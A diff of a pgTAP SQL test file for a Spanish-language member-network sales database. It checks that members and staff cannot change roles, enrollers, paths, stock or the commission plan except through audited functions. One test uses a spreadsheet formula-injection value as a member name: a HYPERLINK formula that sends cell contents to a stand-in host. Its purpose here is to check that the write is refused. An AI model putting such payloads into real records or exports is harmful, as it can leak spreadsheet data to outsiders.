@@ -4,27 +4,29 @@ begin;
 \ir _helpers.psql
 select plan(50);
 
--- A member never changes their own role, enroller, level, activity or status.
+-- Members and roles are written only by functions (issue 23 §4): no API role writes clients or
+-- users_roles, so no column of theirs changes by hand (the matrix and 06_api_privileges list it all),
+-- and each rule is said by the function that keeps it.
 select is(tests.error_as('member_a', $$update public.clients set star_level = 5 where id = {a}$$),
-  'Solo puedes modificar tus datos de contacto y tu página pública.', 'un miembro no cambia su nivel');
-select is(tests.error_as('member_a', $$update public.clients set is_active = false where id = {a}$$),
-  'Solo puedes modificar tus datos de contacto y tu página pública.', 'un miembro no cambia su actividad');
+  'permission denied for table clients', 'un miembro no cambia su nivel: no escribe clients');
+select is(tests.error_as('member_a', $$update public.clients set name = '=HYPERLINK("https://x.test/?"&A1)' where id = {a}$$),
+  'permission denied for table clients', 'ni su nombre: la ficha cambia solo por funciones');
 select is(tests.error_as('member_a', $$update public.clients set enroller_id = {b} where id = {a}$$),
-  'Solo puedes modificar tus datos de contacto y tu página pública.', 'un miembro no cambia su patrocinador');
-select is(tests.error_as('member_a', $$update public.clients set slug = 'otro-slug' where id = {a}$$),
-  'Solo puedes modificar tus datos de contacto y tu página pública.', 'un miembro no cambia su slug');
+  'permission denied for table clients', 'un miembro no cambia su patrocinador');
+select is(tests.error_as('member_a', $$select public.update_client_contact({a}, 'Ana Prueba', 'ana@tests.savia')$$),
+  'Solo el personal (admin o superadmin) puede realizar esta acción.', 'ni corrige su ficha con la función del personal');
 select is(tests.try_as('member_a', 'update', $$update public.users_roles set role = 'superadmin' where user_id = auth.uid()$$),
-  'ok:0', 'un miembro no cambia su propio rol');
-select is(tests.try_as('member_a', 'update', $$update public.clients set phone = '1' where id = {b}$$),
-  'ok:0', 'un miembro no cambia nada de otro miembro');
-select is(tests.try_as('superadmin', 'update', $$update public.users_roles set finance = true where user_id = auth.uid()$$),
-  'ok:0', 'un superadmin no cambia su propio rol (no puede bloquearse)');
+  'denied', 'un miembro no cambia su propio rol');
+select is(tests.try_as('superadmin_fin', 'update', $$update public.users_roles set role = 'admin' where user_id = {b_user}$$),
+  'denied', 'un superadmin no hace admin a un miembro por la tabla');
+select is(tests.error_as('superadmin', $$select public.set_staff_role(auth.uid(), 'admin', false)$$),
+  'No puedes cambiar tu propio rol: pídeselo a otro superadmin.', 'un superadmin no cambia su propio rol (no puede bloquearse)');
 select is(tests.error_as('admin', $$update public.clients set star_level = 4 where id = {a}$$),
-  'El nivel, la actividad y el estado de enrolamiento los calcula el sistema; no se editan a mano.', 'ni el personal edita el nivel');
-select is(tests.error_as('admin', $$update public.clients set enroller_id = {b} where id = {a1}$$),
-  'Solo un superadmin puede cambiar el patrocinador o la cuenta vinculada de un miembro.', 'admin no mueve miembros en la red');
+  'permission denied for table clients', 'ni el personal edita el nivel');
+select is(tests.error_as('admin', $$select public.change_enroller({a1}, {b}, 'Pedido del miembro')$$),
+  'Solo un superadmin puede cambiar el enrolador de un miembro.', 'admin no mueve miembros en la red');
 select is(tests.error_as('admin', $$insert into public.clients (name, email, enroller_id, is_active) values ('Xx Yy', 'xy@tests.savia', {root}, true)$$),
-  'Un miembro nuevo empieza en estrella 1, inactivo y pendiente de aprobación.', 'un alta manual no nace activa');
+  'permission denied for table clients', 'nadie da de alta un miembro por la tabla');
 
 -- The network: paths, moves, cycles.
 select is((select extensions.nlevel(path) - (select extensions.nlevel(path) from public.clients where id = (select id from tests.fx where key = 'a'))
@@ -32,8 +34,9 @@ select is((select extensions.nlevel(path) - (select extensions.nlevel(path) from
 select is(tests.error_as('superadmin', $$select public.change_enroller({a}, {a2}, 'Pedido del miembro')$$),
   'Ana Prueba no puede quedar debajo de Aurora Nieta: Aurora Nieta está en su propia red y se formaría un ciclo.', 'nadie queda bajo su propia descendencia');
 select is(tests.error_as('superadmin', $$update public.clients set enroller_id = {b} where id = {a1}$$),
-  'El enrolador se cambia con «Cambiar enrolador», que pide el motivo y deja registrado el cambio.', 'ni un superadmin mueve a nadie sin motivo (UPDATE directo)');
-select is(tests.error_as('superadmin', $$update public.clients set path = '1.2' where id = {a}$$),
+  'permission denied for table clients', 'ni un superadmin mueve a nadie sin motivo (UPDATE directo)');
+-- The path's rule holds for every path, an operator's SQL included.
+select is(tests.error_as('postgres', $$update public.clients set path = '1.2' where id = {a}$$),
   'La ruta de la red se calcula a partir del patrocinador; no se puede escribir.', 'la ruta no se escribe a mano');
 select lives_ok($$ select tests.authenticate_as('superadmin');
   select public.change_enroller((select id from tests.fx where key = 'a1'), (select id from tests.fx where key = 'b'), 'Corrección del registro');
@@ -49,10 +52,10 @@ select is((select count(*)::integer from public.clients c
               and extensions.subpath(c.path, 0, extensions.nlevel(c.path) - 1)::text
                   <> (select p.path::text from public.clients p where p.id = c.enroller_id)), 0,
   'la ruta de cada miembro es la de su patrocinador más su número');
-select is(tests.error_as('superadmin', $$insert into public.clients (name, email) values ('Otra Ana', 'A@TESTS.SAVIA')$$),
+select is(tests.error_as('postgres', $$insert into public.clients (name, email) values ('Otra Ana', 'A@TESTS.SAVIA')$$),
   'duplicate key value violates unique constraint "clients_email_unico"', 'correo único sin distinguir mayúsculas');
-select is(tests.error_as('superadmin', $$update public.clients set slug = 'beatriz-prueba' where id = {a}$$),
-  'duplicate key value violates unique constraint "clients_slug_unico"', 'slug único');
+select is(tests.error_as('superadmin', $$select public.update_client_contact({a}, 'Ana Prueba', (select email from public.clients where id = {a}), p_slug => 'beatriz-prueba')$$),
+  'El enlace beatriz-prueba ya es de otro miembro: elige otro.', 'slug único');
 
 -- Revocation takes effect on the next request, with a token that still says admin.
 select tests.authenticate_as('admin');
@@ -61,7 +64,7 @@ delete from public.users_roles where user_id = (select user_id from tests.person
 select is(tests.try_as('admin', 'select', 'select * from public.clients'), 'rows:0', 'un admin revocado ya no ve clientes');
 delete from public.users_roles where user_id = (select user_id from tests.personas where persona = 'member_b');
 select is(tests.try_as('member_b', 'select', 'select * from public.sales'), 'rows:0', 'un miembro revocado ya no ve sus ventas');
-select is(tests.try_as('superadmin_fin', 'insert', $$insert into public.users_roles (user_id, role, finance) values ({admin_user}, 'admin', true)$$),
+select is(tests.try_as('postgres', 'insert', $$insert into public.users_roles (user_id, role, finance) values ({admin_user}, 'admin', true)$$),
   'error:23514 new row for relation "users_roles" violates check constraint "users_roles_finanzas_solo_superadmin"',
   'finanzas solo para superadmin');
 
@@ -77,21 +80,22 @@ select is(tests.error_as('superadmin', $$update public.metadata set contact_info
 select is(tests.error_as('superadmin', $$update public.metadata set timezone = 'Marte/Olympus'$$),
   'La zona horaria «Marte/Olympus» no existe.', 'zona horaria inexistente');
 
--- The plan: contiguous levels, non-decreasing thresholds, rates in [0, 1]; a change makes a version.
-select is(tests.error_as('superadmin', $$insert into public.star_level_configs values (7, 'Siete', 100, 90000, '{0.1}', 0, 0); set constraints all immediate$$),
+-- The plan: contiguous levels, non-decreasing thresholds, rates in [0, 1], for every path (save_plan
+-- is the only one through the API); a change makes a version.
+select is(tests.error_as('postgres', $$insert into public.star_level_configs values (7, 'Siete', 100, 90000, '{0.1}', 0, 0); set constraints all immediate$$),
   'Los niveles de estrella deben ser consecutivos desde 1 (hay 6 niveles y el mayor es 7).', 'niveles consecutivos');
-select is(tests.error_as('superadmin', $$update public.star_level_configs set group_points = 10 where level = 3; set constraints all immediate$$),
+select is(tests.error_as('postgres', $$update public.star_level_configs set group_points = 10 where level = 3; set constraints all immediate$$),
   'Los puntos requeridos no pueden bajar al subir de nivel (nivel 3).', 'umbrales no decrecientes');
-select is(tests.error_as('superadmin', $$update public.star_level_configs set commission_rates = '{0.1,1.5}' where level = 2$$),
+select is(tests.error_as('postgres', $$update public.star_level_configs set commission_rates = '{0.1,1.5}' where level = 2$$),
   'new row for relation "star_level_configs" violates check constraint "star_level_tasas_validas"', 'tasas entre 0 y 1');
 select is(tests.try_as('superadmin', 'update', $$update public.star_level_configs set starter_bonus = 11 where level = 1$$),
-  'ok:1', 'el superadmin edita el plan');
+  'denied', 'el plan no se edita por la tabla: save_plan lo valida entero');
 update public.star_level_configs set starter_bonus = starter_bonus + 1 where level = 1;
 select is((select (plan -> 'levels' -> 0 ->> 'starter_bonus')::numeric from public.plan_versions order by version desc limit 1),
   (select starter_bonus from public.star_level_configs where level = 1), 'cambiar el plan crea una versión nueva');
 
 -- Stock only moves through movements, never below zero.
-select is(tests.error_as('superadmin', $$update public.products set stock = 999 where id = {product}$$),
+select is(tests.error_as('postgres', $$update public.products set stock = 999 where id = {product}$$),
   'El stock no se edita directamente: registra un movimiento de inventario (reposición o ajuste).', 'el stock no se edita a mano');
 -- (Through the API a movement is written only by the functions; the trigger holds for every path, an operator's SQL too.)
 select is(tests.error_as('postgres', $$insert into public.stock_movements (product_id, quantity, kind, note) values ({product}, -101, 'adjustment', 'Merma')$$),
@@ -114,7 +118,11 @@ select throws_ok($$ delete from public.audit_logs $$, '42501', null, 'la auditor
 select throws_ok($$ truncate public.audit_logs $$, '42501', null, 'la auditoría no se vacía');
 
 -- Audit rows carry actor and role.
-select lives_ok($$ select tests.authenticate_as('superadmin'); update public.suppliers set notes = 'auditado' where id = (select id from tests.fx where key = 'supplier'); select tests.clear_authentication() $$,
+select lives_ok($$ select tests.authenticate_as('superadmin');
+  select public.save_supplier(s.id, s.name, s.tax_id, s.contact_name, s.email, s.phone, 'auditado', s.is_active,
+                              array(select sp.product_id from public.supplier_products sp where sp.supplier_id = s.id))
+    from public.suppliers s where s.id = (select id from tests.fx where key = 'supplier');
+  select tests.clear_authentication() $$,
   'superadmin edita un proveedor');
 select row_eq($$ select actor_id, actor_role, action, old_values ->> 'notes', new_values ->> 'notes' from public.audit_logs
                   where table_name = 'suppliers' and row_id = (select id::text from tests.fx where key = 'supplier') order by id desc limit 1 $$,
@@ -129,7 +137,9 @@ select is((select count(*)::integer from public.audit_logs
             where table_name = 'products' and action = 'UPDATE' and row_id = (select id::text from tests.fx where key = 'product')),
   0, 'el cambio de stock por un movimiento no duplica una fila de auditoría del producto');
 select lives_ok($$ select tests.authenticate_as('superadmin');
-  update public.products set price = price + 1 where id = (select id from tests.fx where key = 'product');
+  select public.save_product(p.id, p.sku, p.name, p.price + 1, p.commissionable_amount, p.points, p.description, p.category,
+                             p.benefits, p.is_kit, p.image_path, 0, p.components)
+    from public.products p where p.id = (select id from tests.fx where key = 'product');
   select tests.clear_authentication() $$, 'superadmin cambia el precio');
 select is((select count(*)::integer from public.audit_logs
             where table_name = 'products' and action = 'UPDATE' and row_id = (select id::text from tests.fx where key = 'product')
